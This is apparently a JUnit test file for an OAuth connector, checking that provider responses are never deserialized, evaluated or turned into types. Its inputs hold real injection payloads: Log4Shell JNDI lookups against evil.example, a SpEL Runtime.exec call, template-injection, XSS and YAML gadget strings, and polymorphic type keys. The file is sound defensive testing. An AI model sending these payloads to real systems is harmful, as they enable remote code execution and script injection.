package dev.connectorkit.oauth;

import static org.assertj.core.api.Assertions.assertThat;

import dev.connectorkit.spi.ConnectorError;
import dev.connectorkit.spi.ProviderResponse;
import dev.connectorkit.spi.UserProfile;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.net.URI;
import java.util.Base64;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a provider sends is data: no text of it is run, looked up, deserialized or made a type. */
class InertTextTest {

  private final Provider provider = new Provider();

  @BeforeEach
  void forget() {
    Trap.SPRUNG.set(0);
  }

  @Test
  void theTrapWorks() throws Exception {
    try (var in = new ObjectInputStream(new java.io.ByteArrayInputStream(serialized()))) {
      in.readObject();
    }

    assertThat(Trap.SPRUNG).hasValue(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{#sb64}%s",
        "{#b64}%s",
        "{#j}%s",
        "rO0AB%s",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{7*7}",
        "<%%= 7 * 7 %%>",
        "{{constructor.constructor('return 1')()}}",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]"
      })
  void aTextStaysTheTextItIs(String template) throws Exception {
    String text = template.formatted(Base64.getEncoder().encodeToString(serialized()));
    UserProfile profile =
        profile(
            "{\"sub\":\"u1\",\"name\":\"%1$s\",\"preferred_username\":\"%1$s\",\"locale\":\"%1$s\"}"
                .formatted(text));

    assertThat(profile.name()).contains(text);
    assertThat(profile.username()).contains(text);
    assertThat(profile.raw()).containsEntry("locale", text);
    assertThat(Trap.SPRUNG).hasValue(0);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"@type\":\"%s\"}",
        "{\"@class\":\"%s\"}",
        "{\"@c\":\"%s\"}",
        "{\"class\":\"%s\"}",
        "{\"$type\":\"%s\"}",
        "{\"java.class\":\"%s\"}",
        "[\"%s\",{}]",
        "{\"@type\":\"java.lang.AutoCloseable\",\"@type2\":\"%s\"}"
      })
  void noMemberNamesAType(String template) {
    String value = template.formatted(Trap.class.getName());

    UserProfile profile = profile("{\"sub\":\"u1\",\"name\":%1$s,\"more\":%1$s}".formatted(value));

    assertThat(profile.name()).isEmpty();
    assertThat(profile.raw().get("more")).isInstanceOfAny(Map.class, java.util.List.class);
    assertThat(Trap.SPRUNG).hasValue(0);
  }

  @Test
  void aSerializedObjectIsNoAnswer() throws Exception {
    byte[] object = serialized();
    for (String path :
        java.util.List.of("/token", "/userinfo", "/jwks", "/.well-known/openid-configuration")) {
      provider.http.on(path, () -> new ProviderResponse(200, Map.of(), object));
    }
    OAuthConnector connector = provider.describe().build();
    OAuthConnector discovering = provider.describe().issuer(URI.create(Provider.ISSUER)).build();

    Failing.with(
        ConnectorError.INVALID_RESPONSE,
        () -> connector.complete(Provider.callback(), Provider.begin(connector)));
    Failing.with(ConnectorError.INVALID_RESPONSE, discovering::start);
    provider.http.on("/token", 200, "{\"access_token\":\"canary\"}");
    OAuthConnector plain = provider.describe().scope("profile").build();
    Failing.with(
        ConnectorError.INVALID_RESPONSE,
        () -> plain.complete(Provider.callback(), Provider.begin(plain)));
    assertThat(Trap.SPRUNG).hasValue(0);
  }

  private UserProfile profile(String userInfo) {
    provider.http.on("/userinfo", 200, userInfo);
    OAuthConnector connector = provider.describe().scope("profile").build();
    return connector.complete(Provider.callback(), Provider.begin(connector)).profile();
  }

  private static byte[] serialized() throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var out = new ObjectOutputStream(bytes)) {
      out.writeObject(new Trap());
    }
    return bytes.toByteArray();
  }

  /** Tells when somebody makes one out of bytes, or by its name. */
  static final class Trap implements Serializable {
    private static final long serialVersionUID = 1L;
    private static final AtomicInteger SPRUNG = new AtomicInteger();

    private void readObject(ObjectInputStream in) throws IOException {
      SPRUNG.incrementAndGet();
    }

    @SuppressWarnings("unused")
    public void setMore(String value) {
      SPRUNG.incrementAndGet();
    }
  }
}
